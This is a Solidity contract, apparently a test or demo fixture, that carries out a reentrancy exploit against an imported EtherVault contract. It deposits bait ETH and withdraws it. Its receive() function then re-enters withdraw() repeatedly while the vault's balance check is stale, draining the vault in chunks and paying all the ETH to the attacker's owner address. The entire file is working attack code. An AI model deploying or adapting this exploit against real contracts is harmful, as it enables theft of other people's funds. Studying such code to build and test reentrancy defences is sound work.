// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {EtherVault} from "./EtherVault.sol";

/// @title ReentrancyAttacker
/// @notice Reentrancy exploit against EtherVault, done in ONE transaction
///         (`attack`, sent with some ETH as the bait, e.g. 1 ETH):
///   1. deposit `msg.value` (the chunk) into the vault;
///   2. withdraw the chunk; the vault sends the ETH before it books the
///      withdrawal, so
///   3. `receive()` re-enters `withdraw(chunk)` while the vault still holds at
///      least one chunk, each time passing the (stale) balance check;
///   4. once the vault holds less than a chunk, the frames unwind and all the
///      ETH (the bait plus the loot) goes to the owner.
/// If the vault is paused, step 1 reverts with `EnforcedPause()` and the whole
/// transaction reverts.
contract ReentrancyAttacker {
    address public immutable owner;
    EtherVault public immutable vault;

    /// @dev The size of each withdrawal during an attack; 0 outside one.
    uint256 private _chunk;
    /// @dev Withdrawals made during the current attack.
    uint256 private _withdrawals;

    event AttackExecuted(uint256 chunk, uint256 withdrawals, uint256 payout);

    constructor(EtherVault vault_) {
        owner = msg.sender;
        vault = vault_;
    }

    /// @notice Run the whole exploit with `msg.value` as the chunk.
    /// @return payout ETH sent to the owner (the bait included).
    function attack() external payable returns (uint256 payout) {
        require(msg.sender == owner, "ReentrancyAttacker: NOT_OWNER");
        require(msg.value > 0, "ReentrancyAttacker: NO_BAIT");
        _chunk = msg.value;
        _withdrawals = 0;

        vault.deposit{value: msg.value}();
        _withdrawals = 1;
        vault.withdraw(msg.value);

        uint256 withdrawals = _withdrawals;
        _chunk = 0;
        payout = address(this).balance;
        (bool ok,) = owner.call{value: payout}("");
        require(ok, "ReentrancyAttacker: PAYOUT_FAILED");
        emit AttackExecuted(msg.value, withdrawals, payout);
    }

    /// @notice Re-enters the vault while it still holds a whole chunk.
    receive() external payable {
        uint256 chunk = _chunk;
        if (msg.sender == address(vault) && chunk != 0 && address(vault).balance >= chunk) {
            _withdrawals += 1;
            vault.withdraw(chunk);
        }
    }
}
